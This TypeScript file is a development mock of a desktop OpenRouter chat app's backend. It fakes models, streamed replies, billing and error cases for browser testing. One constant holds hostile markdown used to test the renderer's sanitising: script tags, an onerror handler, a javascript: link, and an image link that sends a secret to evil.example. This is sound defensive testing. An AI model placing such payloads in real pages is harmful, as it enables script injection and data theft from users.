// Dev-only stand-in for the Rust core, to try the page in a browser: `npm run dev:mock`.
// It answers the commands of IPC.md from memory and streams canned replies over fake Channels.
// Type a message containing one of these words to see a case:
//   "credits" (402 error offering a shorter reply and "Add credits"), "interrupt" (stream breaks), "badkey" (401),
//   "reject" (send_message rejects), "xss" (hostile markdown), "long" (a long reply), "freeend" on a
//   :free model (the free period ended: "Switch to" its paid slug).
// The quick window (mock-quick.html, `npm run dev` then open /mock-quick.html): the quick commands answer
// from the same memory, with a key; "reject" in a quick prompt fails the send, `?noselection` makes the
// selection empty and `?nokey` starts without a key.
// Money: replies cost what the model's prices say and go into a ledger seeded with four months of use
// (mock-money.ts); a stopped or cut-off reply's cost arrives a few seconds later as `usage-corrected`.
import { parseDollars } from "../billing-budget";
import { listOrder } from "../conversation-pages";
import { MockMoney, replyCost } from "./mock-money";
import type {
  AppStatus,
  Attachment,
  ConversationCursor,
  ConversationSummary,
  Message,
  ModelCard,
  ModelPicks,
  QuickStatus,
  Routing,
  SearchHit,
  SearchQuery,
  Settings,
  SnippetPart,
  StreamEvent,
  TurnStarted,
  Usage,
  UserError,
} from "../api";

type Callback = (message: unknown) => void;

/** A model card with the fields the page reads; the rest left empty. */
function mockCard(id: string, name: string, description: string, context: number, prompt: string, completion: string, extra: Partial<ModelCard> = {}): ModelCard {
  const colon = id.lastIndexOf(":");
  const variant = colon > id.indexOf("/") ? id.slice(colon + 1) : null;
  const price = (value: string): string | null => value;
  return {
    id, base_id: variant === null ? id : id.slice(0, colon), variant, name, author: id.split("/")[0] ?? "", description,
    created: 1_750_000_000, context_length: context, max_output_tokens: 16_384, input_modalities: ["text"], output_modalities: ["text"],
    prices: { prompt: price(prompt), completion: price(completion), internal_reasoning: null, input_cache_read: null, input_cache_write: null, audio: null, request: null, image: null, web_search: null },
    price_tiers: [], is_free: prompt === "0" && completion === "0", is_router: prompt === "varies", supports_tools: true,
    supports_structured_outputs: false, supports_reasoning: false, reasoning: null, supported_parameters: ["max_tokens", "temperature", "tools"],
    knowledge_cutoff: null, expiration_date: null, canonical_slug: id, ...extra,
  };
}

const MODELS: ModelCard[] = [
  mockCard("anthropic/claude-sonnet-4.5", "Anthropic: Claude Sonnet 4.5", "Strong at **coding** and agents.", 1_000_000, "3", "15", {
    input_modalities: ["text", "image", "file"], supports_reasoning: true, supports_structured_outputs: true,
    reasoning: { efforts: ["high", "medium", "low"], default_effort: "medium", mandatory: false, default_enabled: false, supports_max_tokens: true },
    price_tiers: [{ condition: "Prompts over 200,000 tokens", prices: { prompt: "6", completion: "22.5", internal_reasoning: null, input_cache_read: null, input_cache_write: null, audio: null, request: null, image: null, web_search: null } }],
    knowledge_cutoff: "2025-03-31",
  }),
  mockCard("deepseek/deepseek-r1:free", "DeepSeek: R1 (free)", "Open reasoning model.", 163_840, "0", "0", { supports_reasoning: true }),
  mockCard("deepseek/deepseek-r1", "DeepSeek: R1", "Open reasoning model.", 163_840, "0.4", "2", { supports_reasoning: true }),
  mockCard("google/gemini-2.5-flash", "Google: Gemini 2.5 Flash", "Fast multimodal model.", 1_048_576, "0.3", "2.5", { input_modalities: ["text", "image", "file", "audio", "video"], supports_reasoning: true }),
  mockCard("openai/gpt-4o-mini", "OpenAI: GPT-4o-mini", "Small, cheap, capable.", 128_000, "0.15", "0.6", { input_modalities: ["text", "image"], supports_structured_outputs: true }),
  mockCard("openai/gpt-oss-120b", "OpenAI: gpt-oss-120b", "Open-weight reasoning model.", 131_072, "0.039", "0.19", {
    supports_reasoning: true, reasoning: { efforts: ["high", "medium", "low"], default_effort: "medium", mandatory: true, default_enabled: true, supports_max_tokens: false },
  }),
  mockCard("openrouter/auto", "Auto Router", "Picks a model for each prompt.", 2_000_000, "varies", "varies"),
  mockCard("mistralai/mistral-small-3.1", "Mistral: Small 3.1", "Retired soon.", 128_000, "0.1", "0.3", { expiration_date: "2026-01-31" }),
];

const REPLY = `Here is a short answer with **markdown**.

1. A list item
2. Another one with \`inline code\`

\`\`\`python
def greet(name: str) -> str:
    return f"Hello, {name}!"
\`\`\`

| Model | Price |
|---|---:|
| small | $0.15 |
| large | $15 |

> Links open in your browser: [OpenRouter docs](https://openrouter.ai/docs).
`;

const XSS_REPLY = `Attempted attacks, all inert:

<img src=x onerror="alert(1)"> ![exfil](https://evil.example/?q=secret) [js](javascript:alert(1))

<script>alert(2)</script><iframe srcdoc="<script>alert(3)</script>"></iframe>
`;

export interface MockOptions {
  /** Start with an API key saved (the quick window's mock page; the main one starts at the key screen). */
  hasKey?: boolean;
}

/** A canned selection and a clipboard longer than 32 KiB (cut, as the core cuts it). */
const MOCK_SELECTION = "The mitochondria is the powerhouse of the cell. It makes most of the cell's supply of ATP.";
const MOCK_CLIPBOARD = `fn main() {\n    println!("Hello, world!");\n}\n`.repeat(1200);
const ATTACHMENT_LIMIT = 32 * 1024;

export function installMockCore(options: MockOptions = {}): void {
  const callbacks = new Map<number, Callback>();
  let nextCallback = 1;
  let hasKey = options.hasKey ?? false;
  let settings: Settings = { default_model: "openai/gpt-4o-mini", theme: "system", monthly_budget_usd: null, low_balance_usd: null };
  const conversations = new Map<number, ConversationSummary>();
  const messages = new Map<number, Message[]>();
  const running = new Map<number, () => void>();
  const routings = new Map<number, Routing>();
  let picks: ModelPicks = { favorites: ["anthropic/claude-sonnet-4.5"], recent: ["openai/gpt-4o-mini"] };
  let browserState: unknown = null;
  let nextId = 1;

  const fail = (kind: UserError["kind"], message: string, action: UserError["action"] = null): never => {
    throw { kind, message, action, retry_after_secs: null } satisfies UserError;
  };

  // Tauri's event plugin, enough for listen()/unlisten (the `usage-corrected` event).
  const listeners = new Map<number, { event: string; handler: number }>();
  let nextListener = 1;
  function emit(event: string, payload: unknown): void {
    for (const [id, listener] of listeners) {
      if (listener.event === event) callbacks.get(listener.handler)?.({ event, id, payload });
    }
  }

  // The seeded ledger's rows belong to conversations since deleted (their spend stays); the three live
  // conversations below each hold one priced reply, in the ledger too.
  const seededReplies = seedConversations();
  const money = new MockMoney({
    models: MODELS,
    settings: () => settings,
    titleOf: (id) => conversations.get(id)?.title ?? null,
    messagesOf: (id) => messages.get(id) ?? [],
  }, Array.from({ length: 6 }, () => nextId++));
  for (const reply of seededReplies) {
    money.record({ at: reply.created_at, conversation_id: reply.conversation_id, model: reply.model ?? "", prompt_tokens: reply.usage?.prompt_tokens ?? 0,
      completion_tokens: reply.usage?.completion_tokens ?? 0, reasoning_tokens: 0, cached_tokens: 0, cost_nanos: reply.usage?.cost_nanos ?? null });
  }

  /** Three conversations from the past days, each with a priced reply (returned). */
  function seedConversations(): Message[] {
    const seeds: [string, string, number][] = [
      ["Trip planning", "anthropic/claude-sonnet-4.5", 9], ["Rust lifetimes", "openai/gpt-4o-mini", 3], ["Essay feedback", "google/gemini-2.5-flash", 1],
    ];
    return seeds.map(([title, model, daysAgo]) => {
      const id = nextId++;
      const at = Date.now() - daysAgo * 86_400_000;
      conversations.set(id, { id, title, model, created_at: at, updated_at: at, message_count: 2, starred: false, archived: false });
      const reply: Message = { id: 0, conversation_id: id, role: "assistant", content: REPLY, reasoning: null, status: "complete", model, provider: "MockProvider",
        finish_reason: "stop", error: null, usage: usageFor(model, 1800, 420, "stream"), created_at: at + 4000, timing: { first_token_ms: 640, duration_ms: 5200 } };
      const question: Message = { id: nextId++, conversation_id: id, role: "user", content: `A question about ${title.toLowerCase()}.`, reasoning: null,
        status: "complete", model: null, provider: null, finish_reason: null, error: null, usage: null, created_at: at };
      reply.id = nextId++;
      messages.set(id, [question, reply]);
      return reply;
    });
  }

  /** A reply's usage as the core reports it: exact cost from the model's prices. */
  function usageFor(model: string, prompt: number, completion: number, source: "stream" | "generation", known = true): Usage {
    const cost = known ? replyCost(MODELS.find((m) => m.id === model), prompt, completion) : null;
    return {
      prompt_tokens: prompt, completion_tokens: completion, reasoning_tokens: null, cached_tokens: null,
      cost_usd: cost === null ? null : cost / 1e9, cost_nanos: cost, cost_source: source,
    };
  }

  function channel(arg: unknown): (event: StreamEvent) => void {
    const id = Number(String((arg as { toJSON(): string }).toJSON()).split(":")[1]);
    let index = 0;
    return (event) => callbacks.get(id)?.({ index: index++, message: event });
  }

  /** `maxTokens`: a capped retry (the "credits" prompt's "Try a shorter reply" then succeeds). */
  function stream(text: string, assistant: Message, send: (event: StreamEvent) => void, maxTokens: number | null): void {
    const conversation = conversations.get(assistant.conversation_id);
    send({ type: "meta", model: assistant.model, provider: "MockProvider" });
    const reply =
      text.includes("xss") ? XSS_REPLY : text.includes("long") ? Array.from({ length: 40 }, () => REPLY).join("\n") : REPLY;
    const reasoning = text.includes("think") || text.includes("long") ? "Let me think about this step by step. " : "";
    let at = 0;
    let stopped = false;
    running.set(assistant.id, () => {
      stopped = true;
    });
    const started = Date.now();
    let firstToken: number | null = null;
    const finish = (status: Message["status"], error: UserError | null): void => {
      running.delete(assistant.id);
      assistant.status = status;
      assistant.error = error;
      const timing = { first_token_ms: firstToken, duration_ms: Date.now() - started };
      assistant.timing = timing;
      if (status !== "error") {
        // A stopped or cut-off reply's cost is only known once /generation answers (a few seconds here).
        const cut = status !== "complete";
        const model = assistant.model ?? "";
        const usage = usageFor(model, 1234, Math.ceil(at / 4), cut ? "generation" : "stream", !cut);
        usage.reasoning_tokens = reasoning ? 12 : null;
        assistant.usage = usage;
        send({ type: "usage", usage });
        const row = money.record({ at: Date.now(), conversation_id: assistant.conversation_id, model, prompt_tokens: usage.prompt_tokens,
          completion_tokens: usage.completion_tokens, reasoning_tokens: usage.reasoning_tokens ?? 0, cached_tokens: 0, cost_nanos: usage.cost_nanos ?? null });
        if (cut) {
          setTimeout(() => {
            const corrected = usageFor(model, usage.prompt_tokens, usage.completion_tokens, "generation");
            row.cost_nanos = corrected.cost_nanos ?? null;
            assistant.usage = corrected;
            emit("usage-corrected", { message_id: assistant.id, conversation_id: assistant.conversation_id, usage: corrected });
          }, 3000);
        }
      }
      send({ type: "done", status, finish_reason: status === "complete" ? "stop" : null, error, timing });
      if (conversation) conversation.updated_at = Date.now();
    };
    if (reasoning) {
      firstToken = 300;
      send({ type: "delta", content: "", reasoning });
    }
    assistant.reasoning = reasoning || null;
    const tick = (): void => {
      if (stopped) return finish("stopped", null);
      if (text.includes("credits") && maxTokens === null) {
        return finish("error", {
          kind: "no_credits",
          message: "Your credits do not cover this reply: OpenRouter sets aside room for up to 64,000 tokens of answer, and what is left pays for about 2,666. Ask for a shorter reply, add credits, or choose a cheaper model.",
          action: { kind: "retry_shorter", label: "Try a shorter reply (up to 2,666 tokens)", url: null, max_tokens: 2666 },
          second_action: { kind: "open_url", label: "Add credits", url: "https://openrouter.ai/settings/credits" },
        });
      }
      if (text.includes("freeend") && assistant.model?.endsWith(":free")) {
        const paid = assistant.model.slice(0, -":free".length);
        return finish("error", { kind: "not_found", message: `The free period of ${assistant.model} has ended.`, action: { kind: "switch_model", label: `Switch to ${paid}`, url: null, model: paid } });
      }
      if (text.includes("badkey")) {
        return finish("error", { kind: "unauthorized", message: "OpenRouter did not accept your API key.", action: { kind: "enter_key", label: "Enter a new key" } });
      }
      if (text.includes("interrupt") && at > reply.length / 2) {
        return finish("interrupted", { kind: "interrupted", message: "The connection dropped before the reply was complete." });
      }
      if (at >= reply.length) return finish("complete", null);
      const size = 1 + Math.floor(Math.random() * 6);
      const chunk = reply.slice(at, at + size);
      at += size;
      firstToken ??= Date.now() - started;
      assistant.content += chunk;
      send({ type: "delta", content: chunk, reasoning: "" });
      setTimeout(tick, 15);
    };
    setTimeout(tick, 300);
  }

  function startTurn(
    conversationId: number, model: string, text: string, send: (event: StreamEvent) => void, userId: number, maxTokens: number | null = null,
  ): TurnStarted {
    const assistant: Message = {
      id: nextId++, conversation_id: conversationId, role: "assistant", content: "", reasoning: null, status: "streaming",
      model, provider: "MockProvider", finish_reason: null, error: null, usage: null, created_at: Date.now(),
    };
    messages.get(conversationId)?.push(assistant);
    stream(text, assistant, send, maxTokens);
    return { conversation_id: conversationId, user_message_id: userId, assistant_message_id: assistant.id };
  }

  /** Case-insensitive word search with a snippet around the first hit: enough to try the dialog. */
  function search(query: SearchQuery): SearchHit[] {
    const words = query.text.toLowerCase().split(/[^\p{L}\p{N}]+/u).filter((word) => word !== "");
    if (words.length === 0) return [];
    const hits: SearchHit[] = [];
    for (const [conversationId, list] of messages) {
      const conversation = conversations.get(conversationId);
      if (!conversation || (query.starred_only && !conversation.starred)) continue;
      for (const message of list) {
        if (query.model !== null && message.model !== query.model) continue;
        if (query.from_ms !== null && message.created_at < query.from_ms) continue;
        if (query.to_ms !== null && message.created_at >= query.to_ms) continue;
        const lower = message.content.toLowerCase();
        if (!words.every((word) => lower.includes(word))) continue;
        hits.push({
          message_id: message.id, conversation_id: conversationId, conversation_title: conversation.title, role: message.role,
          model: message.model, created_at: message.created_at, snippet: snippetOf(message.content, words),
        });
      }
    }
    if (query.order === "newest") hits.sort((a, b) => b.created_at - a.created_at);
    return hits.slice(0, query.limit);
  }

  function snippetOf(content: string, words: string[]): SnippetPart[] {
    const lower = content.toLowerCase();
    const first = Math.min(...words.map((word) => lower.indexOf(word)).filter((at) => at >= 0));
    const start = Math.max(0, first - 40);
    const text = (start > 0 ? "\u2026" : "") + content.slice(start, start + 160);
    const pattern = new RegExp(`(${words.map((w) => w.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")).join("|")})`, "gi");
    return text.split(pattern).filter((part) => part !== "").map((part) => ({ text: part, hit: words.includes(part.toLowerCase()) }));
  }

  // `mock.html?long`: 300 conversations, the newest with 3,000 messages (to try the paged list and log).
  if (typeof location !== "undefined" && new URLSearchParams(location.search).has("long")) {
    const start = Date.now() - 300 * 60_000;
    for (let i = 1; i <= 300; i++) {
      const id = nextId++;
      const count = i === 300 ? 3000 : 2;
      conversations.set(id, { id, title: `Conversation ${i}`, model: "openai/gpt-4o-mini", created_at: start + i * 60_000, updated_at: start + i * 60_000, message_count: count, starred: i % 97 === 0, archived: false });
      messages.set(id, Array.from({ length: count }, (_, n): Message => ({
        id: nextId++, conversation_id: id, role: n % 2 === 0 ? "user" : "assistant",
        content: n % 2 === 0 ? `Question ${n + 1} in conversation ${i}` : (n % 10 === 1 ? REPLY : `Answer ${n + 1}: `.repeat(1 + (n % 13))),
        reasoning: null, status: "complete", model: n % 2 === 0 ? null : "openai/gpt-4o-mini", provider: null,
        finish_reason: "stop", error: null, usage: null, created_at: start + i * 60_000,
      })));
    }
  }

  const commands: Record<string, (args: Record<string, unknown>) => unknown> = {
    app_status: (): AppStatus => ({ has_key: hasKey, key_storage: hasKey ? "keyring" : "none", keyring_problem: null, version: "0.1.0-mock" }),
    save_api_key: (args) => {
      const key = String(args["key"]);
      if (!key.startsWith("sk-or-")) fail("unauthorized", "OpenRouter did not accept this key. Check that you copied all of it.");
      if (key.includes("nokeyring") && !args["sessionOnly"]) {
        fail("keyring_unavailable", "Your system keyring cannot be used, so the key cannot be saved for next time.");
      }
      hasKey = true;
      return { label: "sk-or-v1-abc…xyz", limit: null, limit_remaining: null, usage: 0, is_free_tier: false, stored_in: args["sessionOnly"] ? "session" : "keyring" };
    },
    forget_api_key: () => {
      hasKey = false;
      return null;
    },
    get_catalogue: () => ({ models: MODELS, fetched_at: Date.now() - 3_600_000, refresh_error: null }),
    refresh_catalogue: () => ({ models: MODELS, fetched_at: Date.now(), refresh_error: null }),
    model_endpoints: () => [
      { provider_name: "MockProvider", tag: "mockprovider", quantization: "fp8", context_length: 128_000, max_output_tokens: 16_384,
        prices: { prompt: "0.2", completion: "0.8", internal_reasoning: null, input_cache_read: null, input_cache_write: null, audio: null, request: null, image: null, web_search: null },
        status: 0, uptime_last_30m: 99.9, uptime_last_1d: 99.4, latency_p50_ms: 420, throughput_p50: 88, supports_implicit_caching: false },
    ],
    list_providers: () => [{ slug: "anthropic", name: "Anthropic" }, { slug: "deepinfra", name: "DeepInfra" }, { slug: "mockprovider", name: "MockProvider" }],
    model_picks: () => picks,
    set_favorite: (args) => {
      const id = String(args["id"]);
      const favorites = picks.favorites.filter((f) => f !== id);
      if (args["favorite"]) favorites.push(id);
      picks = { ...picks, favorites };
      return picks;
    },
    get_routing: (args) => routings.get(Number(args["conversationId"])) ?? { fallback_models: [], provider: null, reasoning_effort: null, web_search: false },
    set_routing: (args) => {
      const routing = args["routing"] as Routing;
      if (routing.fallback_models.length > 3) fail("invalid_input", "Choose at most 3 fallback models.");
      routings.set(Number(args["conversationId"]), routing);
      return routing;
    },
    get_model_browser_state: () => browserState,
    set_model_browser_state: (args) => {
      browserState = args["state"];
      return null;
    },
    list_conversations: () =>
      Array.from(conversations.values()).filter((c) => !c.archived).sort((a, b) => b.updated_at - a.updated_at),
    list_archived: () => Array.from(conversations.values()).filter((c) => c.archived).sort((a, b) => b.updated_at - a.updated_at),
    search_messages: (args) => search(args["query"] as SearchQuery),
    rename_conversation: (args) => {
      const conversation = conversations.get(Number(args["id"])) ?? fail("invalid_input", "That conversation no longer exists.");
      const title = String(args["title"]).trim();
      if (title === "" || title.length > 200) fail("invalid_input", "A title needs 1 to 200 characters.");
      conversation.title = title;
      return null;
    },
    set_starred: (args) => {
      const conversation = conversations.get(Number(args["id"])) ?? fail("invalid_input", "That conversation no longer exists.");
      conversation.starred = Boolean(args["starred"]);
      return null;
    },
    set_archived: (args) => {
      const conversation = conversations.get(Number(args["id"])) ?? fail("invalid_input", "That conversation no longer exists.");
      conversation.archived = Boolean(args["archived"]);
      return null;
    },
    delete_all_history: () => {
      conversations.clear();
      messages.clear();
      return null;
    },
    export_history: (args) => {
      const ids = args["conversationIds"] as number[] | null;
      const extension = args["format"] === "json" ? "json" : "md";
      return { path: `/home/you/Documents/openrouter-history.${extension}`, conversations: ids?.length ?? conversations.size };
    },
    import_history: () => ({ conversations_added: 3, conversations_skipped: 2, messages_added: 41 }),
    list_conversations_page: (args) => {
      const list = Array.from(conversations.values()).filter((c) => !c.archived).sort(listOrder);
      const before = args["before"] as ConversationCursor | null;
      const after = before === null ? list : list.filter((c) => listOrder(c, before) > 0);
      const limit = Number(args["limit"]);
      return { conversations: after.slice(0, limit), has_more: after.length > limit, total: list.length };
    },
    get_conversation: (args) => {
      const conversation = conversations.get(Number(args["id"])) ?? fail("invalid_input", "That conversation no longer exists.");
      const all = messages.get(conversation.id) ?? [];
      const around = args["around"] as number | undefined;
      let from = Math.max(0, all.length - 100);
      let to = all.length;
      if (around !== undefined) {
        const at = all.findIndex((message) => message.id === around);
        if (at < 0) fail("invalid_input", "That message is no longer in this conversation.");
        from = Math.max(0, at - 50);
        to = Math.min(all.length, at + 51);
      }
      return { conversation, messages: all.slice(from, to), has_older: from > 0, has_newer: to < all.length };
    },
    older_messages: (args) => {
      const all = messages.get(Number(args["conversationId"])) ?? [];
      const end = all.findIndex((message) => message.id >= Number(args["beforeId"]));
      const to = end < 0 ? all.length : end;
      const from = Math.max(0, to - Number(args["limit"]));
      return { messages: all.slice(from, to), has_older: from > 0, has_newer: to < all.length };
    },
    newer_messages: (args) => {
      const all = messages.get(Number(args["conversationId"])) ?? [];
      const start = all.findIndex((message) => message.id > Number(args["afterId"]));
      const from = start < 0 ? all.length : start;
      const to = Math.min(all.length, from + Number(args["limit"]));
      return { messages: all.slice(from, to), has_older: from > 0, has_newer: to < all.length };
    },
    delete_conversation: (args) => {
      conversations.delete(Number(args["id"]));
      return null;
    },
    send_message: (args) => {
      const text = String(args["text"]);
      if (text.includes("reject")) fail("offline", "Could not reach OpenRouter. Check your internet connection.", { kind: "retry", label: "Try again" });
      let id = args["conversationId"] as number | null;
      const model = String(args["model"]);
      if (id === null) {
        id = nextId++;
        conversations.set(id, { id, title: text.slice(0, 40), model, created_at: Date.now(), updated_at: Date.now(), message_count: 0, starred: false, archived: false });
        messages.set(id, []);
      }
      const conversation = conversations.get(id) ?? fail("invalid_input", "That conversation no longer exists.");
      conversation.model = model;
      const routing = args["routing"] as Routing | null;
      if (routing) routings.set(id, routing);
      const user: Message = {
        id: nextId++, conversation_id: id, role: "user", content: text, reasoning: null, status: "complete",
        model: null, provider: null, finish_reason: null, error: null, usage: null, created_at: Date.now(),
      };
      messages.get(id)?.push(user);
      return startTurn(id, model, text, channel(args["onEvent"]), user.id);
    },
    retry_reply: (args) => {
      const oldId = Number(args["assistantMessageId"]);
      for (const [conversationId, list] of messages) {
        const index = list.findIndex((message) => message.id === oldId);
        if (index < 0) continue;
        const old = list[index] as Message;
        list.splice(index, 1);
        const user = list[index - 1];
        const conversation = conversations.get(conversationId);
        const switched = typeof args["model"] === "string" ? args["model"] : null;
        if (switched !== null && conversation) conversation.model = switched;
        const maxTokens = typeof args["maxTokens"] === "number" ? args["maxTokens"] : null;
        const model = switched ?? old.model ?? conversation?.model ?? settings.default_model;
        return startTurn(conversationId, model, user?.content ?? "", channel(args["onEvent"]), user?.id ?? 0, maxTokens);
      }
      return fail("invalid_input", "That reply no longer exists.");
    },
    // The quick window (IPC.md "Tray and quick prompts").
    quick_status: () => ({
      has_key: hasKey && !new URLSearchParams(location.search).has("nokey"),
      model: settings.default_model,
      attach: "off",
      selection_supported: true,
      shortcut: "Ctrl+Shift+Space",
      theme: settings.theme,
    } satisfies QuickStatus),
    quick_send: (args) => {
      const text = String(args["text"]);
      if (!hasKey) fail("no_key", "Add your OpenRouter API key first.");
      if (text.includes("reject")) fail("offline", "Could not reach OpenRouter. Check your internet connection.", { kind: "retry", label: "Try again" });
      const attachment = typeof args["attachment"] === "string" ? args["attachment"] : null;
      let id = args["conversationId"] as number | null;
      const model = settings.default_model;
      if (id === null) {
        id = nextId++;
        conversations.set(id, { id, title: text.slice(0, 40), model, created_at: Date.now(), updated_at: Date.now(), message_count: 0, starred: false, archived: false, origin: "quick" });
        messages.set(id, []);
      }
      const conversation = conversations.get(id) ?? fail("invalid_input", "That conversation no longer exists.");
      if (conversation.origin !== "quick") fail("invalid_input", "That is not a quick prompt.");
      const content = attachment === null ? text : `\`\`\`\n${attachment}\n\`\`\`\n\n${text}`;
      const user: Message = {
        id: nextId++, conversation_id: id, role: "user", content, reasoning: null, status: "complete",
        model: null, provider: null, finish_reason: null, error: null, usage: null, created_at: Date.now(),
      };
      messages.get(id)?.push(user);
      return startTurn(id, model, text, channel(args["onEvent"]), user.id);
    },
    quick_retry: (args) => commands["retry_reply"]?.({ ...args, model: undefined }),
    read_attachment: (args): Attachment => {
      if (args["kind"] === "selection") {
        if (new URLSearchParams(location.search).has("noselection")) fail("invalid_input", "Nothing is selected.");
        return { kind: "selection", text: MOCK_SELECTION, truncated: false };
      }
      return { kind: "clipboard", text: MOCK_CLIPBOARD.slice(0, ATTACHMENT_LIMIT), truncated: MOCK_CLIPBOARD.length > ATTACHMENT_LIMIT };
    },
    copy_text: (args) => {
      void navigator.clipboard?.writeText(String(args["text"])).catch(() => undefined);
      console.info("copy_text", args["text"]);
      return null;
    },
    quick_hide: () => {
      console.info("quick_hide: the window would hide now");
      return null;
    },
    open_in_main: (args) => {
      console.info("open_in_main", args["conversationId"]);
      return null;
    },
    stop_reply: (args) => {
      running.get(Number(args["assistantMessageId"]))?.();
      return null;
    },
    quick_stop: (args) => commands["stop_reply"]?.(args),
    get_settings: () => settings,
    update_settings: (args) => {
      const next = args["settings"] as Settings;
      // Checked as the core checks them: a non-negative decimal of at most 1,000,000 dollars, or null.
      for (const amount of [next.monthly_budget_usd, next.low_balance_usd]) {
        const parsed = parseDollars(amount ?? "");
        if ("problem" in parsed) fail("invalid_input", parsed.problem);
      }
      settings = next;
      return settings;
    },
    ...money.handlers(),
    "plugin:event|listen": (args) => {
      const id = nextListener++;
      listeners.set(id, { event: String(args["event"]), handler: Number(args["handler"]) });
      return id;
    },
    "plugin:event|unlisten": (args) => {
      listeners.delete(Number(args["eventId"]));
      return null;
    },
    open_external: (args) => {
      window.open(String(args["url"]), "_blank", "noopener");
      return null;
    },
  };

  const internals = {
    transformCallback(callback: Callback): number {
      const id = nextCallback++;
      callbacks.set(id, callback);
      return id;
    },
    unregisterCallback(id: number): void {
      callbacks.delete(id);
    },
    async invoke(command: string, args: Record<string, unknown> = {}): Promise<unknown> {
      await new Promise((resolve) => setTimeout(resolve, command === "save_api_key" ? 600 : 60));
      const handler = commands[command];
      if (!handler) throw `command ${command} not found`;
      return handler(args);
    },
  };
  (window as unknown as { __TAURI_INTERNALS__: typeof internals }).__TAURI_INTERNALS__ = internals;
  (window as unknown as { __TAURI_EVENT_PLUGIN_INTERNALS__: unknown }).__TAURI_EVENT_PLUGIN_INTERNALS__ = {
    unregisterListener: (_event: string, id: number) => listeners.delete(id),
  };
}

// mock-quick.html loads this module (with a key) before the quick page's own entry.
if (typeof location !== "undefined" && location.pathname.endsWith("/mock-quick.html")) installMockCore({ hasKey: true });
